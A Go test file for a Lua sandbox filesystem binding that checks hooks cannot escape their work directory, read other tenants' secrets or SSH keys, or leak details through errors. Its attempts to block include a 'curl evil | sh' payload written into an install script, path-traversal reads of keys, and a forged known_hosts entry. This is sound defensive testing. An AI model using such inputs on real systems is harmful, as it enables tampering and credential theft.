package fs_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/loomrt/loom/bindings"
	"github.com/loomrt/loom/bindings/bindingstest"
	"github.com/loomrt/loom/bindings/fs"
	lua "github.com/yuin/gopher-lua"
)

// layout is a work root with two tenants, a provider with an SSH key, the
// shell automator's script and loomd's old known_hosts location.
type layout struct {
	root, work, key, script, otherTenant, knownHosts string
}

func newLayout(t *testing.T) layout {
	root := t.TempDir()
	l := layout{
		root:        root,
		work:        filepath.Join(root, "t1", "automatortypes", "chef"),
		key:         filepath.Join(root, "t1", "providertypes", "aws", "ssh_keys", "coopr.pem"),
		script:      filepath.Join(root, "t1", "automatortypes", "shell", "scripts", "install.sh"),
		otherTenant: filepath.Join(root, "t2", "automatortypes", "chef", "secret.txt"),
		knownHosts:  filepath.Join(root, "known_hosts"),
	}
	for p, content := range map[string]string{
		l.key: "PRIVATE KEY", l.script: "#!/bin/sh\necho ok\n", l.otherTenant: "tenant 2 secret", l.knownHosts: "",
		filepath.Join(root, "t1", "providertypes", "aws", "ssh_keys", "other.pem"): "OTHER KEY",
	} {
		os.MkdirAll(filepath.Dir(p), 0o755)
		os.WriteFile(p, []byte(content), 0o600)
	}
	os.MkdirAll(l.work, 0o755)
	return l
}

// A hook reaches its own work dir and nothing else of the work root: not
// another type's files (the shell automator's scripts), not another
// tenant's, not loomd's old known_hosts. Issue 10 items 1 and 2: on the old
// main every write below succeeded.
func TestFSConfinedToOwnWorkDir(t *testing.T) {
	l := newLayout(t)
	h := bindingstest.NewHost(t)
	h.Work = l.work
	L := bindingstest.NewState(t, h, fs.New())
	bindingstest.Run(t, L, `
		local fs = require("loom.fs")
		fs.write("state/a.json", "{}")
		assert(fs.read("state/a.json") == "{}")
		assert(fs.read("`+filepath.Join(l.work, "state", "a.json")+`") == "{}")`)

	wantPermission(t, L, []struct{ code, want string }{
		{`fs.write("../shell/scripts/install.sh", "curl evil | sh")`, "outside the hook's work dir"},
		{`fs.write("` + l.script + `", "curl evil | sh")`, "outside the hook's work dir"},
		{`fs.read("` + l.otherTenant + `")`, "outside the hook's work dir"},
		{`fs.read("../../../t2/automatortypes/chef/secret.txt")`, "outside the hook's work dir"},
		{`fs.write("../../../known_hosts", "* ssh-ed25519 AAAA")`, "outside the hook's work dir"},
		{`fs.write("` + l.knownHosts + `", "* ssh-ed25519 AAAA")`, "outside the hook's work dir"},
		{`fs.read("` + l.key + `")`, "outside the hook's work dir"},
		{`fs.list("..")`, "outside the hook's work dir"},
	})
	if b, _ := os.ReadFile(l.script); string(b) != "#!/bin/sh\necho ok\n" {
		t.Fatalf("another type's script was overwritten: %q", b)
	}
	if b, _ := os.ReadFile(l.knownHosts); len(b) != 0 {
		t.Fatalf("known_hosts was written: %q", b)
	}
}

// A resource the task names (the runtime turns config["ssh-auth"].identityfile
// into a Grant) is readable, read-only, and only that file.
func TestFSGrantIsReadOnlyAndExact(t *testing.T) {
	l := newLayout(t)
	h := bindingstest.NewHost(t)
	h.Work = l.work
	named := "../../providertypes/aws/ssh_keys/coopr.pem"
	h.Granted = []bindings.Grant{
		{Named: named, Path: l.key},
		{Named: "/var/coopr/work/t2/providertypes/aws/ssh_keys/k.pem", Denied: "it belongs to tenant t2, not t1"},
	}
	L := bindingstest.NewState(t, h, fs.New())
	bindingstest.Run(t, L, `
		local fs = require("loom.fs")
		assert(fs.read("`+named+`") == "PRIVATE KEY")
		assert(fs.read("`+l.key+`") == "PRIVATE KEY")
		assert(fs.exists("`+named+`"))`)
	wantPermission(t, L, []struct{ code, want string }{
		{`fs.write("` + named + `", "x")`, "read but never write"},
		{`fs.remove("` + l.key + `")`, "read but never write"},
		{`fs.read("../../providertypes/aws/ssh_keys/other.pem")`, "outside the hook's work dir"},
		{`fs.list("../../providertypes/aws/ssh_keys")`, "outside the hook's work dir"},
		{`fs.read("/var/coopr/work/t2/providertypes/aws/ssh_keys/k.pem")`, "belongs to tenant t2"},
	})
	if b, _ := os.ReadFile(l.key); string(b) != "PRIVATE KEY" {
		t.Fatalf("granted key changed: %q", b)
	}
}

// Issue 10 item 7: errors say nothing about what is outside the sandbox.
// A present and a missing file outside get the same message, and so do
// symlinks to a present and to a missing target; no message names the
// target of a symlink.
func TestFSErrorsRevealNothingOutside(t *testing.T) {
	outside := t.TempDir()
	os.WriteFile(filepath.Join(outside, "present"), []byte("x"), 0o600)
	h := bindingstest.NewHost(t)
	os.Symlink(filepath.Join(outside, "present"), filepath.Join(h.Work, "to-present"))
	os.Symlink(filepath.Join(outside, "missing"), filepath.Join(h.Work, "to-missing"))
	os.Symlink(outside, filepath.Join(h.Work, "dir"))
	L := bindingstest.NewState(t, h, fs.New())
	msg := func(code string) string {
		t.Helper()
		err := L.DoString(code)
		if err == nil {
			t.Fatalf("%s succeeded", code)
		}
		m := bindingstest.ErrorMessage(err)
		if strings.Contains(m, outside) && !strings.Contains(code, outside) {
			t.Errorf("%s: the error names the symlink's target: %q", code, m)
		}
		return m
	}
	for _, op := range []string{"read", "exists", "list", "write", "remove", "mkdir"} {
		call := func(p string) string {
			if op == "write" {
				return `require("loom.fs").write("` + p + `", "x")`
			}
			return `require("loom.fs").` + op + `("` + p + `")`
		}
		a := msg(call(filepath.Join(outside, "present")))
		b := msg(call(filepath.Join(outside, "missing")))
		if strings.ReplaceAll(a, "present", "X") != strings.ReplaceAll(b, "missing", "X") {
			t.Errorf("fs.%s: a present and a missing file outside differ:\n%s\n%s", op, a, b)
		}
		e := msg(call("dir/present"))
		f := msg(call("dir/missing"))
		if strings.ReplaceAll(e, "present", "X") != strings.ReplaceAll(f, "missing", "X") {
			t.Errorf("fs.%s: paths through a symlinked dir differ:\n%s\n%s", op, e, f)
		}
		// Writing or removing a symlink replaces or removes the link
		// itself, inside the work dir; reading follows it, and must not
		// tell where it leads.
		if op == "read" || op == "exists" || op == "list" {
			c := msg(call("to-present"))
			d := msg(call("to-missing"))
			if strings.ReplaceAll(c, "present", "X") != strings.ReplaceAll(d, "missing", "X") {
				t.Errorf("fs.%s: symlinks to a present and a missing target differ:\n%s\n%s", op, c, d)
			}
		}
	}
}

// wantPermission runs each snippet (with fs in scope) and wants a
// permission error whose message holds want.
func wantPermission(t *testing.T, L *lua.LState, cases []struct{ code, want string }) {
	t.Helper()
	for _, tc := range cases {
		err := L.DoString(`local fs = require("loom.fs"); ` + tc.code)
		if msg := bindingstest.ErrorMessage(err); !strings.Contains(msg, tc.want) || !strings.Contains(msg, "permission") {
			t.Errorf("%s: got %q, want a permission error with %q", tc.code, msg, tc.want)
		}
	}
}
